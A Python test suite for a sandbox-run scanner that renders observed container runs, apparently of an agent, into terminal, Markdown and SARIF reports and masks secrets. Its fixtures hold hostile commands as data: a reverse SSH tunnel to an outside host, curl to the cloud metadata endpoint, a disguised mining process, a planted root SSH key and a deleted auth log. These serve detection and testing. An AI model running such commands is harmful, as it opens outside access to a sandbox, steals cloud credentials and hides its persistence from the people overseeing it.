"""A run in every report for people, and in SARIF; its secrets in none."""

import json
import re
import time
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from scanner import masked
from scanner.errors import UsageError
from scanner.model import Kind, ProcessLocation, Report
from scanner.model.run import Attempt, Endpoint, FileChange, Namespace, Process, Query, Run, Socket, Withheld
from scanner.plugins import plugins
from scanner.reports import markdown, reach, sarif, text, watched, words
from scanner.reports.json import load
from scanner.reports.plugin import Format, RenderOptions
from tests.reports import runs, samples, strategies

START = runs.START


def shown(report: Report, width: int = 120, *, verbose: bool = False) -> str:
    return text.render(report, RenderOptions(width, verbose=verbose))


def section(block: str, title: str) -> str:
    found = re.search(rf"^{re.escape(title)}\n(.*?)(?:\n\n|\Z)", block, re.DOTALL | re.MULTILINE)
    assert found, title
    return found[1]


# ---- at a terminal


def test_the_head_says_whose_run_it_is_when_it_was_and_how_it_ended():
    head = shown(runs.WATCHED).split("\n\nWhat")[0]

    assert head.startswith("sandscan 0.1.0: container:rome-1\n")
    for label, words_ in (
        ("run", "rome-1 of sandbox/agent:latest: observed where nothing can leave"),
        ("episode", "ep-42"),
        ("command", "/bin/sh /run.sh"),
        ("time", r"2026-01-02 03:04:05.250 to 03:05:05.250 UTC \(60.0 s\)"),
        ("ended", "stopped: time limit of 60 s"),
        ("seen", "44 changes, 4 processes, 4 sockets, 2 queries, 6 attempts"),
        ("dropped", "1,048,576 output bytes"),
        ("found", "2 critical, 1 medium"),
    ):
        assert re.search(rf"^  {label} +{words_}$", head, re.MULTILINE), label
    assert re.search(r"ended +exit code 0\n", shown(runs.QUIET))


def test_what_was_tried_says_where_as_what_by_whom_and_what_was_said():
    tried = section(shown(runs.WATCHED), "What it tried to reach")

    assert re.findall(r"^  (\S.*)$", tried, re.MULTILINE) == [
        "203.0.113.9:22 tcp, ssh",
        "pool.example:3333 (198.18.0.7) tcp, stratum, 3 times",
        "169.254.169.254:80 tcp, http",
        "[2001:db8::7]:443 udp, an unknown protocol",
    ]
    assert "by       4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9\n" in tried
    assert "says     client SSH-2.0-OpenSSH_9.2p1, user ops, forwards bind, port 2222\n" in tried
    assert r"first    SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n" in tried
    assert "at       03:04:11.750 to 03:04:21.750, 311 bytes sent\n" in tried
    assert r"first    \x00\xff\x1b[2J" in tried


def test_what_was_changed_is_told_by_folder_and_a_restored_time_is_seen():
    changed = section(shown(runs.WATCHED, 200), "What it changed")

    assert "  /usr/lib 1 modified, 1 program among them\n" in changed
    assert (
        "    libprocess.so.0 modified, with the size and the time that it had before, program, 0755 root, 182 kB, "
        "03:04:07.750\n" in changed
    )
    assert "    root modified, 0600 root, 64 bytes, 03:04:08.750, in volume jobs\n" in changed
    assert "    auth.log deleted, 0644 root, 4.1 kB\n" in changed
    assert "  40 expected: policy: /work/**: 40" in changed
    assert "part-0007" not in changed
    assert "part-0007.json added, 0644 agent" in shown(runs.WATCHED, 200, verbose=True)


def test_what_is_no_file_is_said_to_be_what_it_is():
    folder = replace(runs.KEY, after=replace(runs.state(4_096, 0o700), kind=Kind.DIRECTORY))

    assert "authorized_keys added, 0700 root, directory," in shown(
        runs.report(replace(runs.ROME, changes=(folder,))), 200
    )


def test_five_thousand_folders_are_told_by_few():
    many = tuple(replace(runs.KEY, path=b"srv/a%d/b%d/f" % (n % 70, n)) for n in range(5_000))
    changed = section(shown(runs.report(replace(runs.ROME, changes=many))), "What it changed")

    assert changed == "  /srv 5,000 added"


def test_processes_are_a_tree_with_what_is_odd_about_them():
    processes = section(shown(runs.WATCHED, 160), "Processes").splitlines()

    assert processes == [
        "  4700 /bin/sh /run.sh (root, from 03:04:05.375)",
        "    4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9 (root, from 03:04:10.250)",
        "    4720 [kworker/0:1] (root, from 03:04:11.250, its program is deleted, 51.5 s of CPU, /dev/nvidia0)",
        "    4730 curl -s http://169.254.169.254/ (agent, from 03:04:12.250, to 03:04:12.500, exit code 0)",
    ]


def test_no_process_is_lost_to_parents_that_lead_in_a_circle():
    loop = (
        Process(1, 2, ("a",)),
        Process(2, 1, ("b",)),
        Process(3, 3, ("c",)),
        Process(4, 99, ("d",)),
        Process(4, 3, ("e",)),
    )

    assert sorted(one.command[0] for _, one in watched.tree(loop)) == ["a", "b", "c", "d", "e"]


def test_ten_thousand_processes_one_below_the_other_are_a_tree():
    deep = tuple(Process(n, n - 1, ("sh",)) for n in range(1, 10_001))

    assert [depth for depth, _ in watched.tree(deep)] == list(range(10_000))
    assert "\n" in shown(runs.report(replace(runs.ROME, processes=deep)), 24)


def test_sockets_and_the_network_are_told():
    block = shown(runs.WATCHED)

    assert "  tcp listen 0.0.0.0:2222 (4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9)\n" in block
    assert "  tcp established 198.18.0.2:40001 to 198.18.0.7:3333, a mining pool (4720 [kworker/0:1])\n" in block
    assert "  unix established /var/run/docker.sock, engine socket (4700 /bin/sh /run.sh)\n" in block
    assert re.search(r"firewall +no rules of its own\n", block)
    unread = replace(runs.ROME, namespace=Namespace(firewall=None))
    assert re.search(r"firewall +not read\n", shown(runs.report(unread)))
    ruled = replace(runs.ROME, namespace=Namespace(firewall="table ip x {\n  drop\n}\n"))
    assert re.search(r"firewall +3 lines\n", shown(runs.report(ruled)))
    assert "    table ip x {\n" in shown(runs.report(ruled), verbose=True)


def test_plain_unix_sockets_are_counted_and_told_only_when_asked():
    plain = Socket("unix", "unix", "established", Endpoint("/tmp/x"), None, 9, (4_700,))
    run = replace(runs.ROME, sockets=(*runs.ROME.sockets, plain))

    assert "… and 1 more sockets: --verbose shows more" in shown(runs.report(run))
    assert "unix established /tmp/x" in shown(runs.report(run), verbose=True)


def test_what_was_withheld_not_seen_and_dropped_is_said():
    block = shown(runs.WATCHED)

    assert section(block, "Withheld").startswith("  /var/run/docker.sock: it opens the engine\n")
    assert section(block, "Not seen") == "  volume cache: its driver nfs is not on this machine"
    assert section(block, "Dropped, because it was too much") == "  1,048,576 output bytes"


def test_the_timeline_has_what_matters_and_with_verbose_everything():
    told = section(shown(runs.WATCHED, 200), "Timeline of what matters")
    every = section(shown(runs.WATCHED, 200, verbose=True), "Timeline")

    assert re.match(r"  03:04:07.750  /usr/lib/libprocess.so.0: modified", told)
    assert "03:04:10.250  4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9 began\n" in told
    assert "authorized_keys" not in told
    assert "03:04:08.375  /root/.ssh/authorized_keys: added, 0600 root, 98 bytes\n" in every
    assert "03:04:09.257  /work/out/part-0007.json: added, 0644 agent, 512 bytes" in every
    many = replace(runs.ROME, changes=runs.WORK * 50)
    assert "files added under /work/out" in shown(runs.report(many), 200, verbose=True)


def test_a_change_of_another_day_has_its_date():
    old = replace(runs.KEY, after=runs.state(9, changed=START - 86_400 * 3))

    assert ", 2025-12-30 03:04:05" in shown(runs.report(replace(runs.ROME, changes=(old,))), 200)


@pytest.mark.parametrize("time_", [1e300, -1e300, float("nan"), float("inf"), 253_402_300_800.0])
def test_a_time_that_no_calendar_has_is_no_time(time_):
    assert watched.stamp(time_) is None
    assert watched.clock(time_, START) == ""
    odd = replace(runs.ROME, started=time_, attempts=(replace(runs.LOGIN, time=time_, last=None),))
    assert "not known" in shown(runs.report(odd))


def test_the_output_is_shown_when_asked_and_obeyed_never():
    block = shown(runs.WATCHED, verbose=True)

    assert section(block, "What it wrote last") == "  collecting\n  mining \\x1b[31mhard\\x1b[0m \\xff"
    assert "What it wrote last" not in shown(runs.WATCHED)


def test_a_finding_in_a_process_is_placed_by_number_and_command():
    assert re.search(r"where +4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9\n", shown(runs.WATCHED))
    assert words.place(ProcessLocation("box")) == "container box"
    assert words.place(ProcessLocation("box", 7, (), b"usr/bin/\xff")) == r"7 usr/bin/\xff"


def test_a_quiet_run_says_that_nothing_was_found():
    block = shown(runs.QUIET)

    assert "Timeline" not in block
    assert "3 expected: dpkg: libfoo1: 3" in block
    assert "Nothing found: 3 rules over one run, 1 layer, 44 files" in block.replace("\n", " ")
    assert "seen     nothing" in shown(runs.NAMELESS)


@pytest.mark.parametrize("spite", [one for one in strategies.SPITE if one.strip()])
@pytest.mark.parametrize("width", [24, 40, 200])
def test_no_terminal_obeys_a_hostile_run(spite, width):
    for verbose in (False, True):
        block = shown(runs.spiteful(spite, 60), width, verbose=verbose)
        assert all(c == "\n" or c.isprintable() for c in block)
        assert max(cell_len(line) for line in block.splitlines()) <= width


def test_one_silent_target_among_a_scan_is_named():
    scan = tuple(Attempt(START + n, "tcp", Endpoint(f"10.0.0.{n}", 22), pid=4_711) for n in range(20))
    ports = tuple(Attempt(START + n, "tcp", Endpoint("10.1.0.1", n + 1), pid=4_711) for n in range(20))
    metadata = Attempt(START + 50, "tcp", Endpoint("169.254.169.254", 80), pid=4_711)
    tried = section(
        shown(runs.report(replace(runs.ROME, attempts=(*scan, *ports, metadata)))), "What it tried to reach"
    )

    assert re.findall(r"^  (\S.*)$", tried, re.MULTILINE) == [
        "10.0.0.0:22, 10.0.0.1:22, 10.0.0.2:22 and 17 more tcp, nothing said, 20 times",
        "10.1.0.1:1, 10.1.0.1:2, 10.1.0.1:3 and 17 more tcp, nothing said, 20 times",
        "169.254.169.254:80 tcp, nothing said",
    ]


def test_a_flood_is_told_in_few_lines_and_quickly():
    report = runs.spiteful("x")
    begin = time.process_time()
    block = shown(report)

    assert time.process_time() - begin < 3
    assert len(block.splitlines()) < 250
    assert "5,000 attempts: x:80 (192.0.2.1) by tcp" in block.replace("\n                ", " ")
    assert "http, 5,000 times" in block
    assert "198.51.100.0:1, 198.51.100.1:1, 198.51.100.2:1 and 4,997 more tcp, nothing said, 5,000 times" in block
    assert "198.51.100.9:1 tcp, nothing said\n" in shown(report, verbose=True)


# ---- what was tried of what was possible


def test_each_destination_says_whether_it_was_tried():
    block = shown(runs.JOINED)
    agent = block[block.index("\nagent (service") : block.index("\nworker (service")]

    for said in (
        "internet: open; possible and tried",
        "private: limited; possible, not tried",
        "host: closed; tried, but closed",
        "dns: unknown; tried, and not known whether possible",
    ):
        assert f"  {said}\n" in agent
    squeezed = " ".join(agent.split())
    assert (
        "tcp to 192.168.7.7:445, unknown: tried, but closed by: the network default is internal (compose.yaml:20)"
        in squeezed
    )
    assert "tcp to pool.example:3333, stratum, 3 times: possible and tried: the engine masquerades" in squeezed
    assert "path open, by plain sockets; connects as it is: curl (usr/bin/curl); possible and tried" in squeezed
    assert "path limited, by plain sockets; possible, not tried" in squeezed
    assert "not tried" not in block[block.index("\nworker (service") : block.index("What it tried")]


def test_the_markdown_matrix_says_what_was_tried():
    page = markdown.render(runs.JOINED, RenderOptions())

    assert "| `agent` | **open**, tried | **limited**, not tried |" in page
    assert "| `builder` | closed | closed |" in page
    assert "  - tried: tcp to 192.168.7.7:445, unknown: tried, but closed by: the network default" in page


def test_sandboxes_of_which_other_things_were_tried_are_not_alike():
    egress = runs.joined()
    same = replace(egress.sandboxes[0], answers=tuple(replace(one, tried=None) for one in egress.sandboxes[0].answers))

    assert [len(group) for group in reach.groups((egress.sandboxes[0], same, same))] == [1, 2]


# ---- Markdown


def test_the_markdown_tells_the_run():
    page = markdown.render(runs.WATCHED, RenderOptions())

    assert "- run: rome-1 of sandbox/agent:latest: observed where nothing can leave\n" in page
    assert "| `pool.example:3333 (198.18.0.7)` | tcp, stratum, 3 times | `4720 [kworker/0:1]` |" in page
    assert "| `/root/.ssh` | 1&#32;added | `authorized_keys` |" in page
    assert "| 03:04:12.500 | 4730&#32;curl" in page
    assert "- **not seen**: volume cache" in page
    flood = markdown.render(runs.spiteful("x|`", 10_000), RenderOptions())
    assert "198.51.100.2:1 and 4,997 more`" in flood
    assert len(flood) < 100_000
    assert "more targets are not in this table" in markdown.render(
        runs.spiteful("x|`", 10_000), RenderOptions(verbose=True)
    )


# ---- SARIF


def results(report: Report) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    [run] = json.loads(sarif.render(report, RenderOptions()))["runs"]
    return run, run["results"]


def test_sarif_says_when_the_run_was_and_of_what():
    run, _ = results(runs.WATCHED)

    [invocation] = run["invocations"]
    assert (invocation["startTimeUtc"], invocation["endTimeUtc"]) == (
        "2026-01-02T03:04:05.250000Z",
        "2026-01-02T03:05:05.250000Z",
    )
    assert (run["properties"]["how"], run["properties"]["episode"]) == ("observe", "ep-42")
    assert run["properties"]["ended"] == "stopped: time limit of 60 s"
    tags = {rule["id"]: rule["properties"]["tags"] for rule in run["tool"]["driver"]["rules"]}
    assert tags["observed/pool"][:3] == ["security", "container", "observed"]


def test_a_process_is_a_logical_location_and_its_program_a_physical_one():
    _, found = results(runs.WATCHED)

    assert found[0]["locations"] == [
        {
            "physicalLocation": {
                "artifactLocation": {"uri": "sandbox/agent/usr/bin/ssh"},
                "region": {"startLine": 1},
            },
            "logicalLocations": [
                {"name": "4711", "fullyQualifiedName": "container:rome-1/4711/usr/bin/ssh", "kind": "process"}
            ],
        }
    ]
    assert (
        "Where: 4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9 in the container rome-1" in found[0]["message"]["text"]
    )
    assert "relatedLocations" not in found[0]


def test_what_a_process_did_is_a_flow_with_times():
    _, found = results(runs.WATCHED)

    told, acted = found[1]["codeFlows"]
    assert [one["kinds"] for one in told["threadFlows"][0]["locations"]] == [["process"], ["attempt"]]
    steps = acted["threadFlows"][0]["locations"]
    assert [(one["executionTimeUtc"], one["kinds"]) for one in steps] == [
        ("2026-01-02T03:04:11.250000Z", ["process"]),
        ("2026-01-02T03:04:11.500000Z", ["query"]),
        ("2026-01-02T03:04:11.750000Z", ["attempt"]),
        ("2026-01-02T03:04:13.250000Z", ["attempt"]),
    ]
    assert "tried pool.example:3333" in steps[2]["location"]["message"]["text"]
    assert len(found[2].get("codeFlows", [])) == 0


def test_a_process_with_ten_thousand_attempts_is_a_short_flow():
    report = runs.spiteful("x")
    _, [found] = results(report)

    assert len(found["codeFlows"][1]["threadFlows"][0]["locations"]) < 10


# ---- formats


def test_every_format_takes_a_run_or_says_what_it_needs():
    for form in plugins("scanner.reports"):
        if form.draws:
            with pytest.raises(UsageError, match="this report has no launch"):
                form.render(runs.WATCHED, RenderOptions())
        else:
            told = form.render(runs.WATCHED, RenderOptions())
            assert "observed/reverse-tunnel" in told
            assert "rome-1" in told or form.name == "github"  # which has room for what and where alone


# ---- secrets

SECRET = "Zq7vPplanted9KwX3"
SHAPES = (
    f"curl -u bot:{SECRET} https://x.example",
    f"https://bot:{SECRET}@x.example/a",
    f"Authorization: Bearer {SECRET}{SECRET}",
    f"DB_PASSWORD={SECRET}",
    f"sshpass -p {SECRET} ssh -R 1:a:2 x.example",
    f"ngrok http 80 --authtoken {SECRET}",
    f"ghp_{SECRET}{SECRET}"[:40],
    f"password={SECRET}",
)


def planted(shape: str) -> Report:
    """A run that says the secret wherever a run has words of the guest's own."""
    words_ = ("curl", "-H", shape) if shape.startswith("Authorization") else tuple(shape.split(" "))
    raw = shape.encode()
    state = runs.state(5)
    run = Run(
        runs.ROME.how,
        "box",
        START,
        START + 9,
        command=words_,
        changes=(FileChange(b"a", runs.KEY.change, f"bind mount {shape}", None, state, expected=f"policy: {shape}"),),
        processes=(Process(7, 1, words_, started=START, environment=(shape,)), Process(8, 7, ("sh", "-c", shape))),
        sockets=(Socket("tcp", "ipv4", "listen", Endpoint("0.0.0.0", 1), None, 1, (7,), shape),),
        namespace=Namespace(firewall=f'comment "{shape}"'),
        queries=(Query(START, "x.example", "A", Endpoint("192.0.2.1", 53)),),
        attempts=(
            Attempt(
                START, "tcp", Endpoint("192.0.2.1", 80), None, None, 7, "http", {"said": shape, "all": [shape]}, raw, 9
            ),
        ),
        withheld=(Withheld(f"env {shape}", shape),),
        unseen=(shape,),
        stopped=shape,
        output=b"\xff " + raw + b"\n",
    )
    place = ProcessLocation("box", 7, words_, b"bin/x")
    found = replace(
        runs.FINDINGS[0],
        message=shape,
        locations=(place,),
        flow=(replace(runs.FINDINGS[0].flow[0], location=place, message=shape),),
    )
    return runs.report(masked.run(run), masked.finding(found))


@pytest.mark.parametrize(
    "form",
    [one for one in plugins("scanner.reports") if not one.draws],
    ids=lambda f: f.name,
)
@pytest.mark.parametrize("shape", SHAPES)
def test_no_report_of_a_run_shows_a_secret(form: Format, shape: str):
    for verbose in (False, True):
        shown_ = form.render(planted(shape), RenderOptions(200, verbose=verbose))
        leaked = [shown_[max(0, m.start() - 100) : m.end()] for m in re.finditer("Zq7vP|planted9", shown_)]
        assert leaked == []


def test_base64_hides_no_secret_either():
    run = load(
        next(f for f in plugins("scanner.reports") if f.name == "json").render(planted(SHAPES[2]), RenderOptions())
    ).run

    assert run is not None
    assert SECRET.encode() not in run.attempts[0].first + run.output
    assert run.attempts[0].first.startswith(b"Authorization: ")
    assert run.output.startswith(b"\xff ")


@given(strategies.runs)
@settings(deadline=None, max_examples=40)
def test_masking_twice_changes_nothing_and_the_shape_stays(run):
    once = masked.run(run)

    assert masked.run(once) == once
    assert [len(one.command) for one in once.processes] == [len(one.command) for one in run.processes]
    assert [one.path for one in once.changes] == [one.path for one in run.changes]
    assert (len(once.attempts), len(once.queries), once.dropped) == (len(run.attempts), len(run.queries), run.dropped)


@given(st.sampled_from(SHAPES), st.text(st.characters(categories=("L", "N")), max_size=5))
@settings(deadline=None, max_examples=40)
def test_a_secret_is_masked_whatever_stands_around_it(shape, around):
    run = replace(runs.ROME, output=f"{around} {shape}\n{around}".encode(), unseen=(f"{around} {shape}",))

    assert "planted9" not in masked.run(run).unseen[0]
    assert b"planted9" not in masked.run(run).output


def test_masking_a_flood_is_quick():
    flood = runs.spiteful("x").run
    assert flood is not None
    begin = time.process_time()
    masked.run(flood)
    assert time.process_time() - begin < 2


def test_a_report_without_a_run_is_as_it_was():
    assert "Timeline" not in shown(samples.INFECTED)
    assert results(samples.INFECTED)[0]["invocations"][0] == {
        "executionSuccessful": True,
        "startTimeUtc": "2025-01-02T03:04:05Z",
    }
